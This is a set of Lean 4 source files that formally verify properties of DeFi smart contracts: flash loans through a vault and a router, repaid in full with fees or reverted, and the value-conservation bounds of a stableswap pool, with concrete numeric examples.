`chain_failed_changes_nothing` / `chain_all_or_nothing` quantify over all operations, the ones carrying
stray coins (`VaultChain.Op.attach`) included. -/

/-- Stray coins go to the contract the message is sent to and nowhere else: a message with `n` coins of
    asset `sel` attached by `who` runs exactly as the same message without coins from the state `s0`
    after a plain transfer of the coins from `who` to the receiving contract (`dst` = 5 for the router's
    `FlashLoan` / `NextLoan` / `CompleteLoan`, `6 + j` for vault `j`'s `CollectProtocolFees`: a donation
    to that vault); no fee ledger or loan counter is touched by their arrival. -/
theorem chain_stray_coins_go_to_receiver {c : VaultChain.Cfg} {s s' : VaultChain.St} {who sel n : Nat}
    {op : VaultChain.Op} (h : VaultChain.step c s (.attach who sel n op) = some s') :
    ∃ dst s0, op.recv = some dst ∧ VaultChain.move c s sel who dst n = some s0 ∧
      VaultChain.step c s0 op = some s' ∧
      s0.bal sel dst = s.bal sel dst + n ∧ s0.bal sel who + n = s.bal sel who ∧
      (∀ y, y ≠ dst → y ≠ who → s0.bal sel y = s.bal sel y) ∧ (∀ x y, x ≠ sel → s0.bal x y = s.bal x y) ∧
      s0.pend = s.pend ∧ s0.allTime = s.allTime ∧ s0.burned = s.burned ∧ s0.ctr = s.ctr := by
  obtain ⟨dst, s0, hr, hm, hw, _, _, _, hd, hs⟩ := VaultChain.attach_parts h
  have M := VaultChain.move_spec hm
  have hne : who ≠ dst := by
    cases op with
    | rloan _ _ _ => simp only [VaultChain.Op.recv, Option.some.injEq] at hr; omega
    | rfund _ _ _ => simp [VaultChain.Op.recv] at hr
    | collect j => simp only [VaultChain.Op.recv, Option.some.injEq] at hr; omega
    | xnext _ _ _ _ => simp only [VaultChain.Op.recv, Option.some.injEq] at hr; omega
    | xcomplete _ _ _ => simp only [VaultChain.Op.recv, Option.some.injEq] at hr; omega
    | attach _ _ _ op' =>
      -- whatever the inner message is, its receiver is the router or a vault: an account ≥ 5
      have : ∀ o : VaultChain.Op, ∀ d, o.recv = some d → 5 ≤ d := by
        intro o
        induction o with
        | rloan _ _ _ => intro d hd; simp only [VaultChain.Op.recv, Option.some.injEq] at hd; omega
        | rfund _ _ _ => intro d hd; simp [VaultChain.Op.recv] at hd
        | collect j => intro d hd; simp only [VaultChain.Op.recv, Option.some.injEq] at hd; omega
        | xnext _ _ _ _ => intro d hd; simp only [VaultChain.Op.recv, Option.some.injEq] at hd; omega
        | xcomplete _ _ _ => intro d hd; simp only [VaultChain.Op.recv, Option.some.injEq] at hd; omega
        | attach _ _ _ o ih => intro d hd; exact ih d (by simpa only [VaultChain.Op.recv] using hd)
      have := this _ _ hr
      omega
  have h1 := M.dstBal hne
  have h2 := M.srcBal hne
  have h3 := M.funded
  exact ⟨dst, s0, hr, hm, hs, h1, by omega, fun y g1 g2 => M.otherAcct y g2 g1,
    fun x y hx => M.otherAsset x y hx, M.pend, M.allTime, M.burned, M.ctr⟩

/-- **Coins attached to the router's `FlashLoan` are never left in a vault, and of the borrowed asset
    never in the router**: they are the router's when the chain starts (`s0`); with `s2` the state when
    the payload has finished, the vault of the borrowed asset receives exactly its quote, the router ends
    with nothing of the borrowed asset and the initiator (= the sender) receives the router's WHOLE
    remaining balance of it — attached coins of that denom included. Attached coins of ANY OTHER asset
    (another vault's asset, the denom without a vault) do not move after the payload: they stay where
    the payload left them, i.e. with the router unless the payload sends them on. -/
theorem chain_attached_coins_return {c : VaultChain.Cfg} {s s' : VaultChain.St} {who sel n : Nat}
    {e : Nat × Nat} {p : List VaultChain.RAct}
    (h : VaultChain.step c s (.attach who sel n (.rloan who [e] p)) = some s') :
    ∃ s0 s1 s2 : VaultChain.St, VaultChain.move c s sel who 5 n = some s0 ∧
      s0.bal sel 5 = s.bal sel 5 + n ∧ s0.bal sel who + n = s.bal sel who ∧
      (∀ y, y ≠ 5 → y ≠ who → s0.bal sel y = s.bal sel y) ∧ (∀ x y, x ≠ sel → s0.bal x y = s.bal x y) ∧
      VaultChain.chainGo c (fun t => VaultChain.rruns c t p) who [e] s0 [e] = some s' ∧
      VaultChain.lends c s0 [e] = some s1 ∧ VaultChain.rruns c s1 p = some s2 ∧
      s1.bal e.1 5 = s0.bal e.1 5 + e.2 ∧
      VaultChain.payback c e.1 e.2 ≤ s2.bal e.1 5 ∧
      s'.bal e.1 5 = 0 ∧
      s'.bal e.1 who = s2.bal e.1 who + (s2.bal e.1 5 - VaultChain.payback c e.1 e.2) ∧
      s'.bal e.1 (6 + e.1) + e.2 * (c.fees e.1).burn / E18 = s2.bal e.1 (6 + e.1) + VaultChain.payback c e.1 e.2 ∧
      (∀ x, x ≠ e.1 → ∀ y, s'.bal x y = s2.bal x y) := by
  obtain ⟨dst, s0, hr, hm, hs, h1, h2, h3, h4, _⟩ := chain_stray_coins_go_to_receiver h
  have hd : dst = 5 := by simp only [VaultChain.Op.recv, Option.some.injEq] at hr; omega
  subst hd
  obtain ⟨_, _, _, _, hw, _, _, _, _, _⟩ := VaultChain.attach_parts h
  rw [chain_rloan_single c s0 who e p hw] at hs
  obtain ⟨s1, s2, hl, hrun, S⟩ := VaultChain.chain_spec (by omega) hs
  have he : e ∈ [e] := List.mem_singleton.mpr rfl
  refine ⟨s0, s1, s2, hm, h1, h2, h3, h4, hs, hl, hrun, S.lentRouter e he, S.covered e he, S.router e he,
    S.initiator e he, S.vault e he, fun x hx y => S.otherAsset x (by simpa using hx) y⟩

/-- non-vacuity + the exact numbers: loan 500 000 at fees 1 % / 0.3 % / 0.1 %: payback 507 000;
    repaying 507 000 succeeds, 506 999 reverts, a nested loan reverts, a deposit reverts. -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 0, 100000, 0, 0]
    let s := reach s0 [.deposit 0 1000000 1000000]
    (payback s 500000 = 507000) ∧ (loanFrom s 500000 [.pay 507000]).isSome = true
      ∧ loanFrom s 500000 [.pay 506999] = none
      ∧ loanFrom s 10000 [.loan 990000 [.pay 999900], .pay 200] = none
      ∧ loanFrom s 500000 [.deposit 5, .pay 507000] = none := by
  decide

/-- non-vacuity + the exact numbers, router path: same vault, router pre-funded with 300 stray units,
    loan 500 000 through the router for user 1: payback 507 000. Funding 6 700 (300 + 500 000 + 6 700 =
    507 000) succeeds and leaves the router with 0 and user 1 unchanged; funding 6 699 reverts; funding
    8 000 forwards 1 300 to user 1; vault balance 1 000 000 → 1 006 500 (fees 5 000 + 1 500, 500 burned);
    a nested router loan, a deposit in the payload, an early CompleteLoan that sends the loan to user 0,
    a stranger's NextLoan all revert. -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 300, 100000, 0, 0]
    let s := reach s0 [.deposit 0 1000000 1000000, .fundRouter 2 300]
    let a := Vault.apply s (.routerLoan 1 500000 [.fund 6700])
    let b := Vault.apply s (.routerLoan 1 500000 [.fund 8000])
    (getN s.ab 5 = 300) ∧ (payback s 500000 = 507000)
      ∧ (a.bal, a.pend, a.burned, getN a.ab 5, getN a.ab 1, getN a.ab 3, a.ctr) = (1006500, 5000, 500, 0, 5000000, 93300, 0)
      ∧ (b.bal, getN b.ab 5, getN b.ab 1, getN b.ab 3) = (1006500, 0, 5001300, 92000)
      ∧ routerLoanFrom s 1 500000 [.fund 6699] = none
      ∧ routerLoanFrom s 1 500000 [.fund 8000, .routerLoan 5 7 [.fund 1]] = none
      ∧ routerLoanFrom s 1 500000 [.deposit 5, .fund 8000] = none
      ∧ (routerLoanFrom s 1 500000 [.adv [.collect, .pay 5], .fund 7000, .out 2 100]).isSome = true
      ∧ routerLoanFrom s 1 500000 [.fund 7000, .complete 0 100] = none
      ∧ step s (.nextLoanBy 1 0 [.out 1 300]) = none := by
  decide

/-- non-vacuity + the exact numbers, coins attached: the state of the previous example (router holding
    300 stray units). User 1 attaches 77 units of the asset to the same router loan (payload funds
    8 000): vault 1 006 500 as without them, router 0, user 1 ends with 5 001 300 exactly as without
    them (−77 + 1 377 forwarded) — the coins are back. Attaching 55 units of the unrelated denom leaves
    them on the router (entry 5 of `jb`) and changes nothing else. The borrower contract attaching 9
    units to its own direct `FlashLoan` of 1 000 (payback 1 014) donates them: vault balance + 9 + 13.
    With the payload funding only 6 623 the 77 attached units complete the quote (300 + 77 + 500 000 +
    6 623 = 507 000); 76 do not. On a cw20 vault a coin of the asset's denom cannot be attached at all. -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 300, 100000, 0, 0]
    let s := reach s0 [.deposit 0 1000000 1000000, .fundRouter 2 300]
    let a := Vault.apply s (.attach 1 0 77 (.routerLoan 1 500000 [.fund 8000]))
    let b := Vault.apply s (.attach 1 1 55 (.routerLoan 1 500000 [.fund 8000]))
    let d := Vault.apply s (.attach 3 0 9 (.loan 1000 [.pay 1014]))
    (a.bal, getN a.ab 5, getN a.ab 1, getN a.ab 3) = (1006500, 0, 5001300, 92000) ∧ a.jb = s.jb
      ∧ (b.bal, getN b.ab 5, getN b.ab 1, getN b.jb 5, getN b.jb 7) = (1006500, 0, 5001300, 55, 0)
      ∧ getN b.jb 1 + 55 = getN s.jb 1
      ∧ (d.bal, getN d.ab 3, d.pend, d.burned) = (1000022, 99977, 10, 1)
      ∧ (step s (.attach 1 0 77 (.routerLoan 1 500000 [.fund 6623]))).isSome = true
      ∧ step s (.attach 1 0 76 (.routerLoan 1 500000 [.fund 6623])) = none
      ∧ step s (.attach 1 0 0 (.routerLoan 1 500000 [.fund 8000])) = none
      ∧ step { s with kind := 1 } (.attach 1 0 77 (.routerLoan 1 500000 [.fund 8000])) = none
      ∧ step s (.attach 1 0 5 (.deposit 1 100 95)) = none
      ∧ (step s (.attach 1 1 5 (.deposit 1 100 100))).isSome = true
      ∧ step s (.attach 1 1 5 (.nextLoanBy 1 0 [])) = none := by
  decide

/-- non-vacuity + the exact numbers, three vaults (0: native, fees 1 % / 0.3 % / 0.1 %; 1: cw20, no fees;
    2: native, 2 % protocol fee), 1 000 000 in each, the router holding 7 stray units of asset 1.
    User 1 borrows 1 000 from vault 0 through the router's FlashLoan and, in the payload, 500 from
    vault 1 and 300 from vault 2 through the NextLoan chain (paybacks 1 014, 500, 306): funding 7 of
    asset 2 and 14 of asset 0 succeeds — vault balances 1 000 013 (1 burned), 1 000 000, 1 000 006, the
    router ends with nothing of any asset, user 1 receives the 7 stray units of asset 1 and 1 unit of
    asset 2, no vault holds a foreign asset. One unit less for vault 2 (fund 5) reverts everything;
    so do the same vault twice, an asset without a vault, a loan above a vault's balance, a failing
    payload, two assets sent to FlashLoan directly. -/
example :
    let c : VaultChain.Cfg := ⟨3, fun j => if j = 1 then 1 else 0,
      fun j => if j = 0 then ⟨10000000000000000, 3000000000000000, 1000000000000000⟩
        else if j = 1 then ⟨0, 0, 0⟩ else ⟨20000000000000000, 0, 0⟩⟩
    let z : Nat → Nat := fun _ => 0
    let s : VaultChain.St := ⟨z, z, z, z,
      fun j a => if a = 3 then 100000 else if a = 6 + j then 1000000 else if a = 5 ∧ j = 1 then 7 else 0⟩
    let a := VaultChain.apply c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (2, 300)] [.fund 2 7], .fund 0 14])
    (VaultChain.payback c 0 1000, VaultChain.payback c 1 500, VaultChain.payback c 2 300) = (1014, 500, 306)
      ∧ (a.bal 0 6, a.bal 1 7, a.bal 2 8) = (1000013, 1000000, 1000006)
      ∧ (a.bal 0 5, a.bal 1 5, a.bal 2 5) = (0, 0, 0)
      ∧ (a.bal 0 1, a.bal 1 1, a.bal 2 1) = (0, 7, 1)
      ∧ (a.bal 1 6, a.bal 2 6, a.bal 0 7, a.bal 2 7, a.bal 0 8, a.bal 1 8) = (0, 0, 0, 0, 0, 0)
      ∧ (a.pend 0, a.burned 0, a.pend 2, a.ctr 0, a.ctr 1, a.ctr 2) = (10, 1, 6, 0, 0, 0)
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (2, 300)] [.fund 2 5], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (1, 300)] [], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (0, 300)] [], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (3, 300)] [], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (2, 1000001)] [.fund 2 30000], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000)] [.chain 1 [(1, 500), (2, 300)] [.fund 2 7, .fail], .fund 0 14])).isNone = true
      ∧ (VaultChain.step c s (.rloan 1 [(0, 1000), (1, 500)] [.fund 0 14])).isNone = true := by
  -- (the states hold balances as functions: evaluated by the kernel directly, without the elaborator's pass)
  decide +kernel

end WW.C06
