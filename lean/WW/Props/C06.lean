/-
  C06 — Flash loans are repaid with all fees or the whole transaction reverts.
  Property theorems only. Model: WW/Model/Vault.lean — the borrower's callback is an arbitrary finite
  tree `List Act` (repay any amount, deposit, withdraw, collect fees, transfer out, fail, take another
  loan with its own callback tree …), so every theorem below quantifies over ALL borrower behaviours
  of ANY depth, all loan amounts, all fee triples, native and cw20 assets.
  (The vault-router path is covered by WW/Props/C06Router.lean.)
-/
import WW.Proofs.Vault
namespace WW.C06
open WW WW.Vault

/-- All or nothing: a transaction that fails leaves every balance and ledger untouched … -/
theorem failed_changes_nothing (s : St) (op : Op) (h : step s op = none) : Vault.apply s op = s := by
  simp [Vault.apply, h]

/-- … and one that succeeds is exactly the model's successor state (there is no third outcome). -/
theorem all_or_nothing (s : St) (op : Op) :
    Vault.apply s op = s ∨ ∃ s', step s op = some s' ∧ Vault.apply s op = s' := by
  cases h : step s op with
  | none => left; simp [Vault.apply, h]
  | some s' => right; exact ⟨s', rfl, by simp [Vault.apply, h]⟩

/-- A successful loan ends with the vault's balance higher than before by at least the protocol and
    the flash-loan fee, whatever the callback tree did (re-entrant withdrawals and fee collections
    included), with the burn fee destroyed (total supply of the asset drops by exactly that fee). -/
theorem loan_balance_ge {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') :
    s.bal + fee s.fees.prot amount + fee s.fees.flash amount ≤ s'.bal ∧
    s'.burned = s.burned + fee s.fees.burn amount ∧
    s'.assetSupply + fee s.fees.burn amount = s.assetSupply :=
  let L := loan_spec hI h
  ⟨L.balGe, L.burned, L.assetSupply⟩

/-- Each fee is exactly `⌊share · loan⌋`; the protocol fee is what the ledgers record. -/
theorem fee_exact {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') :
    s'.allTime = s.allTime + amount * s.fees.prot / E18 ∧
    s'.burned = s.burned + amount * s.fees.burn / E18 ∧
    s'.pend ≤ s.pend + amount * s.fees.prot / E18 :=
  let L := loan_spec hI h
  ⟨L.allTime, L.burned, L.pendLe⟩

/-- No vault shares can be minted while a loan is outstanding: the share supply after a loan is at
    most what it was before … -/
theorem no_mint_during_loan {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') : s'.sup ≤ s.sup := (loan_spec hI h).supLe

/-- the state in which the borrower's callback starts satisfies the callback invariant -/
private theorem cb_start {s s1 : St} {amount : Nat} (hI : Inv s)
    (hp : payOut { s with ctr := s.ctr + 1 } 3 amount = some s1) : CbInv s1 := by
  obtain ⟨hs1, _, hsum1, hlen1⟩ := payOut_spec (s := { s with ctr := s.ctr + 1 }) (a := 3) (n := amount)
    hI.abLen (by omega) hp
  refine ⟨hlen1, ?_, ?_, ?_, ?_⟩
  · rw [hs1]; exact hI.lbLen
  · rw [hsum1, hs1]; exact hI.assetSum
  · rw [hs1]; exact hI.lpSum
  · rw [hs1]; simp

/-- … and a callback that tries to deposit — at any position — makes the whole loan revert. -/
theorem deposit_in_callback_reverts {s : St} {amount n : Nat} {cb : List Act} (hI : Inv s)
    (hmem : Act.deposit n ∈ cb) : loanFrom s amount cb = none := by
  unfold loanFrom
  rw [run]
  split
  · rfl
  split
  · rfl
  split
  · rfl
  split
  · rfl
  · rename_i s1 hp
    rw [runs_deposit_fails (cb_start hI hp) n hmem]

/-- A loan taken from inside a callback of the same vault — at any position, with any callback of
    its own — makes the whole transaction revert (the repaired guard). -/
theorem nested_loan_reverts {s : St} {amount n : Nat} {cb cb' : List Act} (hI : Inv s)
    (hmem : Act.loan n cb' ∈ cb) : loanFrom s amount cb = none := by
  unfold loanFrom
  rw [run]
  split
  · rfl
  split
  · rfl
  split
  · rfl
  split
  · rfl
  · rename_i s1 hp
    rw [runs_loan_fails (cb_start hI hp) n cb' hmem]

/-- The loan counter is back to zero afterwards. -/
theorem counter_restored {s s' : St} {amount : Nat} {cb : List Act} (hI : Inv s)
    (h : loanFrom s amount cb = some s') : s'.ctr = 0 := (loan_spec hI h).ctr

/-- preconditions under which nothing but the repayment decides the outcome of a repay-only loan:
    loans enabled, a non-zero loan the vault can fund, the borrower can fund the repayment, and the
    128-bit ledgers do not overflow -/
structure PaybackPre (s : St) (amount x : Nat) : Prop where
  flOn : s.flOn = true
  pos : 0 < amount
  funded : amount ≤ s.bal
  xpos : 0 < x
  canPay : x ≤ getN s.ab 3 + amount
  noOverflow : s.bal + x ≤ U128MAX ∧ s.pend + amount ≤ U128MAX ∧ s.allTime + amount ≤ U128MAX
    ∧ s.burned + amount ≤ U128MAX

/-- Repaying exactly the quoted payback amount always suffices, and one unit less never does:
    a callback that only repays `x` succeeds **iff** `x ≥ GetPaybackAmount(amount)`. -/
theorem payback_exact {s : St} {amount x : Nat} (hI : Inv s) (hv : s.fees.valid = true)
    (hp : PaybackPre s amount x) :
    (loanFrom s amount [.pay x]).isSome = true ↔ payback s amount ≤ x := by
  have hctr := hI.ctr0
  have hlen := hI.abLen
  obtain ⟨n1, n2, n3, n4⟩ := hp.noOverflow
  simp only [VFees.valid, Bool.and_eq_true, decide_eq_true_eq] at hv
  obtain ⟨⟨⟨hv1, hv2⟩, hv3⟩, hv4⟩ := hv
  have hf1 : fee s.fees.prot amount ≤ amount := mul_div_le_of_le (le_of_lt hv1)
  have hf3 : fee s.fees.burn amount ≤ amount := mul_div_le_of_le (le_of_lt hv3)
  have hfs : fee s.fees.prot amount + fee s.fees.flash amount + fee s.fees.burn amount ≤ amount := by
    have := three_fees_le amount s.fees.prot s.fees.flash s.fees.burn E18 (by omega)
    simpa [fee] using this
  have hfunded := hp.funded
  have hxpos := hp.xpos
  have hcan := hp.canPay
  have hpos := hp.pos
  have h3 : 3 < s.ab.length := by rw [hlen]; omega
  have hg : getN (setN s.ab 3 (getN s.ab 3 + amount)) 3 = getN s.ab 3 + amount := getN_setN_same _ _ _ h3
  -- the loan leaves the vault, the callback repays x
  have hpo : payOut { s with ctr := s.ctr + 1 } 3 amount
      = some { s with ctr := s.ctr + 1, ab := setN s.ab 3 (getN s.ab 3 + amount), bal := s.bal - amount } := by
    unfold payOut
    rw [if_neg (by simp only; omega)]
  have hpay : run { s with ctr := s.ctr + 1, ab := setN s.ab 3 (getN s.ab 3 + amount), bal := s.bal - amount }
      (.pay x) = some { s with ctr := s.ctr + 1, ab := setN (setN s.ab 3 (getN s.ab 3 + amount)) 3 (getN s.ab 3 + amount - x), bal := s.bal - amount + x } := by
    rw [run_pay]; unfold payIn
    rw [if_neg (by simp only [hg]; omega)]
    simp only [hg]
  have e1 : (!s.flOn) = false := by rw [hp.flOn]; rfl
  unfold loanFrom
  rw [run]
  rw [if_neg (by rw [e1]; simp), if_neg (by omega), if_neg (by omega), hpo]
  simp only []
  rw [runs_cons_some [] hpay, runs_nil]
  simp only []
  -- after_trade decides
  unfold afterTrade payback
  constructor
  · intro h
    split at h
    · rename_i hok
      simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq] at hok
      obtain ⟨⟨⟨⟨_, hneed⟩, _⟩, _⟩, _⟩ := hok
      omega
    · simp at h
  · intro hx
    rw [if_pos]
    · rfl
    · simp only [afterTradeOk, Bool.and_eq_true, decide_eq_true_eq]
      refine ⟨⟨⟨⟨?_, ?_⟩, ?_⟩, ?_⟩, ?_⟩ <;> omega

/-- non-vacuity + the exact numbers: loan 500 000 at fees 1 % / 0.3 % / 0.1 %: payback 507 000;
    repaying 507 000 succeeds, 506 999 reverts, a nested loan reverts, a deposit reverts. -/
example :
    let s0 := Vault.init 0 ⟨10000000000000000, 3000000000000000, 1000000000000000⟩ [5000000, 5000000, 0, 100000, 0]
    let s := reach s0 [.deposit 0 1000000 1000000]
    (payback s 500000 = 507000) ∧ (loanFrom s 500000 [.pay 507000]).isSome = true
      ∧ loanFrom s 500000 [.pay 506999] = none
      ∧ loanFrom s 10000 [.loan 990000 [.pay 999900], .pay 200] = none
      ∧ loanFrom s 500000 [.deposit 5, .pay 507000] = none := by
  decide

end WW.C06
