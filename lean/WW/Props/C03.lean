/-
  C03 — Two-asset stableswap pool: the invariant never leaks value to traders or depositors.
  Property theorems only (helpers live in WW/Proofs/Stable2.lean). The model (`WW/Model/Stable2.lean`)
  is the replica of `terraswap_pair::helpers::{calculate_stableswap_d, calculate_stableswap_y, compute_d,
  compute_next_d, compute_lp_mint_amount_for_stableswap_deposit, compute_swap (StableSwap arm)}` and of
  the stable branch of `provide_liquidity` / `swap` / `withdraw_liquidity`; it is tied to the Rust by the
  `stable2` correspondence engine (pure calls bit-for-bit + contract-level histories).

  Status on the current tree
    proved, unconditional : ss_fee_split, ss_le_reserve, y_residual (+ y_residual_of_solver),
                            lp_mint_le, provide_code_invariant_per_lp, proceeds_monotone_partial,
                            reach_solvent_and_lp_accounted, reach_swap_le_reserve (all histories),
                            compute_d_total, d_solver_meets_tolerance, compute_d_loop_result,
                            solvers_give_up
    stated, NOT proved    : `SwapNotBelowCurve`, `InvariantPerLpOnDeposit` — they need the closeness of
                            the Newton solvers to the exact root of the invariant polynomial; the
                            harness tests them against an independent exact solver (test oracle)
    violated (witnesses)  : `DepositWithdrawNoValue`  — known finding C03-lp-mint-raw-decimals
                            `ProceedsMonotone`         — by ≤ 2 base units, from flooring the 3 fees
-/
import WW.Proofs.Stable2
namespace WW.C03
open WW

-- `U512MAX = 2 ^ 512 - 1` has to be evaluated by `decide` in the concrete witnesses below
set_option exponentiation.threshold 600

/-! ## Swap: fee split, proceeds ≤ reserve -/

/-- **ss_fee_split.** When the StableSwap arm of `compute_swap` returns, with `y` the value the
    y-solver returned for the decimal-normalised inputs: proceeds + the three fees = ask reserve − y,
    and each fee is `⌊share · gross⌋` of that gross output. (`pa ≤ 18`: the ask asset's decimals; for
    more than 18 the code panics in `to_uint256_with_precision`.) -/
theorem ss_fee_split {opool apool off : Nat} {f : Fees} {amp po pa : Nat} {c : SwapComp}
    (hpa : pa ≤ 18) (h : ssSwap opool apool off f amp po pa = .ok c) :
    ∃ opD apD offD y,
      dec256WithPrecision opool po = .ok opD ∧ dec256WithPrecision apool pa = .ok apD ∧
      dec256WithPrecision off po = .ok offD ∧ ssY opD apD offD amp pa 0 = .ok y ∧
      y ≤ apool ∧
      c.ret + c.swapFee + c.protFee + c.burnFee = apool - y ∧
      c.swapFee = (apool - y) * f.swap / E18 ∧
      c.protFee = (apool - y) * f.prot / E18 ∧
      c.burnFee = (apool - y) * f.burn / E18 := by
  obtain ⟨opD, apD, offD, y, apU, h1, h2, h3, h4, h5, hy, e1, e2, e3, hs, hr⟩ := (ssSwap_facts h).ex
  have hU : apU = apool := toUint_withPrecision hpa h2 h5
  subst hU
  exact ⟨opD, apD, offD, y, h1, h2, h3, h4, hy, by omega, e1, e2, e3⟩

/-- **ss_le_reserve.** Proceeds never exceed the ask reserve — not even together with all three fees
    (the `checked_sub` of the solver's `y` from the ask pool is the guard). -/
theorem ss_le_reserve {opool apool off : Nat} {f : Fees} {amp po pa : Nat} {c : SwapComp}
    (hpa : pa ≤ 18) (h : ssSwap opool apool off f amp po pa = .ok c) :
    c.ret ≤ apool ∧ c.ret + c.swapFee + c.protFee + c.burnFee ≤ apool := by
  obtain ⟨_, _, _, y, _, _, _, _, hy, hsum, _, _, _⟩ := ss_fee_split hpa h
  omega

/-! ## y-solver -/

/-- **y_residual.** If the y-solver's loop returns `y` (from any start, any remaining round count),
    it was produced by one Newton step from a `y_prev` within one unit of it, and then — from the
    termination test alone, no convergence argument —
        −(2·y_prev + b − D) < y² + (b − D)·y − c ≤ 1        (over ℤ)
    i.e. `y` is the integer root of the code's own quadratic up to one unit. -/
theorem y_residual {k b c d y0 y : Nat} (h : ssYLoop k b c d y0 = .ok y) :
    ∃ yp : Nat, d < 2 * yp + b ∧ y ≤ yp + 1 ∧ yp ≤ y + 1 ∧
      -(2 * (yp : ℤ) + b - d) < (y : ℤ) * y + ((b : ℤ) - d) * y - c ∧
      (y : ℤ) * y + ((b : ℤ) - d) * y - c ≤ 1 := by
  obtain ⟨yp, hs, h1, h2, _⟩ := ssYLoop_residual k b c d y0 y h
  obtain ⟨hd, r1, r2⟩ := ssYStep_residual hs h1 h2
  exact ⟨yp, hd, h1, h2, r1, r2⟩

/-- `y_residual` for `calculate_stableswap_y` itself, with the quadratic's coefficients spelled out in
    terms of the code's `D` (`d`, at ask precision), the new offer-side pool sum `ps` and `Ann = 2·amp`:
    `c = ⌊⌊d²/(2·ps)⌋·d/(2·Ann)⌋`, `b = ps + ⌊d/Ann⌋`. -/
theorem y_residual_of_solver {op ap off amp pa dir y : Nat} (h : ssY op ap off amp pa dir = .ok y) :
    ∃ dDec d psDec ps yp : Nat,
      ssD op ap amp pa = .ok dDec ∧ dec256ToUintPrecision dDec pa = .ok d ∧
      (if dir = 0 then cadd U256MAX op off else csub ap off) = .ok psDec ∧
      dec256ToUintPrecision psDec pa = .ok ps ∧
      (let c := d * d / (ps * 2) * d / (amp * 2 * 2)
       let b := ps + d / (amp * 2)
       y ≤ U128MAX ∧ d < 2 * yp + b ∧ y ≤ yp + 1 ∧ yp ≤ y + 1 ∧
       -(2 * (yp : ℤ) + b - d) < (y : ℤ) * y + ((b : ℤ) - d) * y - c ∧
       (y : ℤ) * y + ((b : ℤ) - d) * y - c ≤ 1) := by
  obtain ⟨dDec, d, psDec, ps, c, b, h1, h2, h3, h4, ec, eb, hl⟩ := ssY_inv h
  obtain ⟨yp, hs, l1, l2, l3⟩ := ssYLoop_residual _ _ _ _ _ _ hl
  obtain ⟨hd, r1, r2⟩ := ssYStep_residual hs l1 l2
  subst ec eb
  exact ⟨dDec, d, psDec, ps, yp, h1, h2, h3, h4, l3, hd, l1, l2, r1, r2⟩

/-! ## Deposits: what the code guarantees about LP minting -/

/-- **lp_mint_le.** With `D₀`, `D₁` the values `compute_d` returns for the reserves before / after the
    deposit (RAW amounts — no decimal normalisation, which is the known finding below):
    `mint·D₀ ≤ S·(D₁ − D₀)`, hence `D₀·(S + mint) ≤ D₁·S`: the code's own invariant per LP token does
    not fall. -/
theorem lp_mint_le {amp da db sa sb S m : Nat} (h : ssLpMint amp da db sa sb S = .ok (some m)) :
    ∃ d0 d1, computeD amp sa sb = .ok d0 ∧ computeD amp (sa + da) (sb + db) = .ok d1 ∧
      d0 < d1 ∧ m * d0 ≤ S * (d1 - d0) ∧ d0 * (S + m) ≤ d1 * S := by
  obtain ⟨d0, d1, h0, h1, hlt, _, hm, _⟩ := ssLpMint_inv h
  obtain ⟨a, b⟩ := mint_le_core hlt hm
  exact ⟨d0, d1, h0, h1, hlt, a, b⟩

/-- `lp_mint_le` at the level of the pool state machine, for every state with LP supply > 0 (hence
    along every history): a successful `provide` never lowers `compute_d(reported reserves) / supply`. -/
theorem provide_code_invariant_per_lp {cfg : SsCfg} {s s' : SsSt} {u a b : Nat}
    (h : ssProvide cfg s u a b = .ok s') (hs : s.sup ≠ 0) :
    ∃ d0 d1, computeD cfg.amp s.r0 s.r1 = .ok d0 ∧ computeD cfg.amp s'.r0 s'.r1 = .ok d1 ∧
      d0 * s'.sup ≤ d1 * s.sup := by
  obtain ⟨m, hm, l0, l1, e1, e2, e3, e4, e5, _⟩ := ssProvide_live h hs
  obtain ⟨d0, d1, h0, h1, _, _, hb⟩ := lp_mint_le hm
  refine ⟨d0, d1, h0, ?_, by rw [e1]; exact hb⟩
  have r0 : s'.r0 = s.r0 + a := by unfold SsSt.r0; omega
  have r1 : s'.r1 = s.r1 + b := by unfold SsSt.r1; omega
  rw [r0, r1]; exact h1

/-! ## d-solvers: termination facts -/

/-- `compute_d` (raw amounts, Uint512) has no error exit: it returns a value or panics. -/
theorem compute_d_total (amp a b : Nat) : computeD amp a b ≠ .err := computeD_ne_err amp a b

/-- what `compute_d`'s loop returns is the start value (only when no round is left) or the result of
    a Newton step — the loop falls through after its 256 rounds, so NOT necessarily a converged one. -/
theorem compute_d_loop_result {k amp a2 b2 s d r : Nat} (h : computeDLoop k amp a2 b2 s d = .ok r) :
    (k = 0 ∧ r = d) ∨ ∃ prev, computeDStep amp a2 b2 s prev = .ok r :=
  computeDLoop_result k amp a2 b2 s d r h

/-- the Decimal256 solver `calculate_stableswap_d` only returns values that met its termination
    test: a Newton step from some `prev` with `|d − prev| ≤` one unit of the ask precision. -/
theorem d_solver_meets_tolerance {k op ap ann sum prec cur d : Nat}
    (h : ssDLoop k op ap ann sum prec cur = .ok d) :
    ∃ prev thr, ssDStep op ap ann sum prev = .ok d ∧ dec256WithPrecision 1 prec = .ok thr ∧
      d ≤ prev + thr ∧ prev ≤ d + thr :=
  ssDLoop_ok_close k op ap ann sum prec cur d h

/-- both 32-round solvers answer `ConvergeError` (never a stale value) when the rounds are used up -/
